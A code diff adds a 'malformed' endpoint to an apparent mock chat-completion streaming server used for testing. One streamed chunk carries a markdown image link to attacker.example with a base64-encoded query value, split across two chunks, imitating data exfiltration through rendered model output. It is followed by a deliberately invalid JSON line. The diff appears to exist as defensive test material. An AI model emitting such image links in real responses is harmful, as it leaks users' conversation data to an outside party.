@@ -93,6 +93,15 @@ async def boom_mid(request: Request) -> Response:
     return StreamingResponse(body(), media_type="text/event-stream")
 
 
+async def malformed(request: Request) -> Response:
+    async def body() -> AsyncIterator[bytes]:
+        yield b'data: {"choices":[{"index":0,"delta":{"content":"Hi ![x](https://attacker'
+        yield b'.example/p.png?d=SGVsbG8"}}]}\n\n'
+        yield b"data: this is not JSON\n\n"
+
+    return StreamingResponse(body(), media_type="text/event-stream")
+
+
 async def boom_start(request: Request) -> Response:
     async def body() -> AsyncIterator[bytes]:
         raise RuntimeError("no tokens at all")
@@ -133,6 +142,7 @@ ROUTES = [
     Route("/v1/honest", honest),
     Route("/v1/boom-mid", boom_mid),
     Route("/v1/boom-start", boom_start),
+    Route("/v1/malformed", malformed),
     Route("/v1/forever", forever),
     Route("/v1/reply/{seed}", reply),
     Route("/health", health),
